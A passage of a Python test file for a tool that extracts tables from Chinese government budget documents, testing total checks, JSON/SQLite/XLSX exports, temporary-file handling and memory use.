    out = tmp_path / "out"
    assert run([first], out).ok and run([second], out).ok
    assert (out / "docs" / f"{seed_path('000').stem}.json").is_file()  # left, not listed
    [dataset] = export_dataset(out, Format.json)
    exported = json.loads(dataset.read_text(encoding="utf-8"))
    assert {r["doc"] for rows in exported.values() for r in rows} == {seed_path("002").stem} == {
        r["doc"] for r in _rows(out / "projects.csv")}
    assert [r.path for r in recheck(out).results] == [second / seed_path("002").name]


def test_leaf_rows_add_up_to_each_printed_total(out):
    """Summing a column's leaf rows of a table gives its printed 合计 (each side's 总计 in a summary
    table), counting no money twice; where it does not, the document prints a sum that fails, and
    the checks say so for that column."""
    from collections import defaultdict

    rows = _rows(out / "amounts.csv")
    findings = _rows(out / "findings.csv")
    sums, totals = defaultdict(float), {}
    for r in rows:
        if r["value"] == "":
            continue
        key = (r["doc"], r["table_id"], r["side"], r["column"])
        if r["leaf"] == "1":
            sums[key] += float(r["value"])
        if r["row_kind"] == "total":
            totals[key] = float(r["value"])  # (the last printed: 总计 after 本年小计)
    checked = 0
    for (doc, table, side, column), total in totals.items():
        if column == "change_pct":
            assert sums[doc, table, side, column] == 0  # percentages are no leaves
            continue
        if abs(sums[doc, table, side, column] - total) < 1e-6:
            checked += 1
        else:
            assert any(f["doc"] == doc and f["table_id"] == table and f["check"] == "total_row"
                       and f"[{column}]" in f["message"] for f in findings), (doc, table, column)
    assert checked >= 15  # seed 000's six line tables and seed 004's department table, column by column
    assert {r["row_kind"] for r in rows} >= {"subject", "unit", "total", "item"}
    row = next(r for r in rows if r["code"] == "2040601" and r["column"] == "total")
    assert (row["level"], row["leaf"], row["column_label"], row["doc_department"], row["doc_year"],
            row["doc_type"], row["table_title"]) == ("3", "1", "2021年预算数 总计", "中宁县司法局", "2021", "预算",
                                                    "一般公共预算财政拨款支出预算表")
    assert row["sha256"] == hashlib.sha256((SEEDS / "000_83af6fe4b24abd13.txt").read_bytes()).hexdigest()
    assert next(r for r in rows if r["code"] == "204" and r["column"] == "total")["leaf"] == "0"


def test_missing_values_are_null_and_a_range_keeps_its_upper_bound(seed_run):
    """A value not printed is NULL in SQLite and null in JSON (never ''), so that avg() and max()
    take the printed values only; a range's upper bound has its own column."""
    import sqlite3

    from extractor.export import Format, export_dataset

    (dataset,) = export_dataset(seed_run, Format.json)
    data = json.loads(dataset.read_text(encoding="utf-8"))
    assert not any(v == "" for rows in data.values() for row in rows for v in row.values())
    fiscal = [p["funds_fiscal"] for p in data["projects"] if p["funds_fiscal"] is not None]
    assert 0 < len(fiscal) < len(data["projects"])  # some projects print no fiscal funds
    (db_path,) = export_dataset(seed_run, Format.sqlite)
    db = sqlite3.connect(db_path)
    avg, high, nulls = db.execute("SELECT avg(funds_fiscal), max(funds_fiscal), "
                                  "sum(funds_fiscal IS NULL) FROM projects").fetchone()
    assert avg == pytest.approx(sum(fiscal) / len(fiscal)) and high == max(fiscal)
    assert nulls == len(data["projects"]) - len(fiscal)
    ranges = db.execute("SELECT value_raw, number, number_high FROM indicators WHERE number_high IS NOT NULL").fetchall()
    assert ("每次 10000-30000 元", 10000.0, 30000.0) in ranges
    # a finding's numbers are numbers
    assert db.execute("""SELECT typeof(expected), typeof(actual) FROM findings WHERE "check" = 'change_pct'"""
                      ).fetchone() == ("real", "real")


def test_xlsx_for_finance_offices(seed_run):
    """Read back with openpyxl: Chinese headers by default for Chinese documents, a data dictionary
    naming every column, codes as text (010 keeps its zero), amounts as numbers with a number format,
    a finding's numbers as numbers, and one as-printed sheet per line table with its printed headings."""
    from openpyxl import load_workbook

    from extractor.export import Format, export_dataset
    from extractor.export.xlsx import MONEY_FORMAT, dictionary

    (xlsx,) = export_dataset(seed_run, Format.xlsx)
    book = load_workbook(xlsx)
    assert book.sheetnames[0] == "说明"
    rows = list(book["说明"].iter_rows(min_row=2, values_only=True))
    blank = rows.index((None, None, None))
    entries = {r[1]: r for r in rows[:blank]}
    from extractor.export.rows import TABLES

    for _, columns, _ in TABLES:
        assert all(entries[c][0] and entries[c][2] for c in columns)
    assert entries["leaf"][0] == "末级" and set(entries) == set(dictionary())
    # then every coded value the CSVs hold, in words: each check and reason of the models among them
    codes = {r[1]: r for r in rows[blank + 2:]}
    assert codes["check=narrative_amount"][0] == "检查：说明金额" and codes["reason=text_repaired"][2]
    assert {f"check={c.value}" for c in Check} | {f"reason={r.value}" for r in Reason} | {
        f"column={k.value}" for k in ColumnKind} | {f"table_kind={k.value}" for k in TableKind} <= set(codes)

    sheet = book["功能分类支出"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["文档", "来源文件", "文件哈希"] and "科目编码" in header and "末级" in header
    code_at, value_at = header.index("科目编码"), header.index("金额")
    unit_row = next(r for r in sheet.iter_rows(min_row=2) if r[code_at].value == "010")
    assert (unit_row[code_at].data_type, unit_row[code_at].number_format) == ("s", "@")
    row = next(r for r in sheet.iter_rows(min_row=2) if r[code_at].value == "2040601")
    assert isinstance(row[value_at].value, float) and row[value_at].number_format == MONEY_FORMAT

    findings = book["检查结果"]
    header = [c.value for c in findings[1]]
    expected = [r[header.index("应为")].value for r in findings.iter_rows(min_row=2)]
    assert any(isinstance(v, float) for v in expected) and not any(isinstance(v, str) and v.replace(".", "").isdigit()
                                                                   for v in expected)
    checks = {r[header.index("检查")].value for r in findings.iter_rows(min_row=2)}
    assert "合计行" in checks and not checks & {c.value for c in Check}  # the checks in words, not codes

    # one as-printed sheet per line table with rows: seed 000's five
    printed = book.sheetnames[21:]
    assert len(printed) == 5 and printed[1] == "2-t02 一般公共预算财政拨款支出预算表"
    wide = list(book[printed[1]].iter_rows(values_only=True))
    assert wide[0][0] == "一般公共预算财政拨款支出预算表" and "000_83af6fe4b24abd13" in wide[1][0]
    assert wide[2][:4] == ("科目编码", "科目名称", "2020年预算数", "2021年预算数 总计")
    summary = list(book[printed[0]].iter_rows(values_only=True))  # 收支总表: both sides in one list, said
    assert summary[2][:3] == ("收支方向", "科目编码", "科目名称") and summary[3][0] == "收入"
    # coded values in words in the Chinese workbook
    amounts = [dict(zip([c.value for c in sheet[1]], [c.value for c in r])) for r in sheet.iter_rows(min_row=2)]
    assert {r["行类型"] for r in amounts} == {"合计", "单位", "科目"} and {r["表类型"] for r in amounts} == {"功能分类支出"}
    assert {r["复核状态"] for r in amounts} == {"无需复核", "待复核"}
    line = next(r for r in wide if r[0] == "2040601")
    assert line[1:4] == ("行政运行", 688.13, 795.9794)

    (english,) = export_dataset(seed_run, Format.xlsx, seed_run / "en", lang="en")
    assert load_workbook(english, read_only=True).sheetnames[0] == "dictionary"


def test_a_file_is_written_beside_a_leftover_temporary_file_with_the_permissions_of_any_new_file(tmp_path,
                                                                                                 monkeypatch):
    """`files.NewFile` names its temporary file by the process and a number: a file a killed process of the
    same id left under the next name stays as it is and the next free name is taken; the output gets the
    permissions the umask gives any new file (not a temporary file's private 0600)."""
    import itertools
    import os

    from extractor.export import files

    monkeypatch.setattr(files, "_NUMBERS", itertools.count(7))
    leftover = tmp_path / f"{files.TMP_PREFIX}{os.getpid()}-7"
    leftover.write_bytes(b"killed")
    files.write_text(tmp_path / "page.html", "<p>页</p>")
    assert (tmp_path / "page.html").read_text(encoding="utf-8") == "<p>页</p>"
    assert leftover.read_bytes() == b"killed" and sorted(tmp_path.iterdir()) == [leftover, tmp_path / "page.html"]
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "page.html").stat().st_mode & 0o777 == 0o666 & ~umask


def test_a_big_documents_outputs_are_written_in_pieces_not_whole_in_memory(tmp_path):
    """Seed 000 printed 10 times over in one file (280 KB): writing its JSON, rows and page
    (`OutputWriter.add`) holds at most a few bytes a byte of its text beyond the document itself,
    the JSON a table at a time, the rows a batch at a time, the page a piece at a time (each whole:
    ~25 bytes a byte). The outputs are those of the document written whole."""
    import tracemalloc

    from extractor.api import extract_file
    from extractor.export import OutputWriter
    from extractor.export.html import document_page

    source = tmp_path / "big.txt"
    source.write_bytes(b"\n\n".join([seed_path("000").read_bytes()] * 10))
    result = extract_file(source)
    with OutputWriter(tmp_path / "out") as writer:
        writer.add(result.doc, result.text)  # (the queue filled: the second add is the same work but its inserts)
        tracemalloc.start()
        try:
            before = tracemalloc.get_traced_memory()[0]
            writer.add(result.doc, result.text)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert peak - before < 12 * source.stat().st_size
    assert (tmp_path / "out" / "docs" / "big.json").read_bytes() == document_json(result.doc)
    page, summary = document_page(result.doc, result.text)
    assert (tmp_path / "out" / "report" / summary.href).read_text(encoding="utf-8") == page
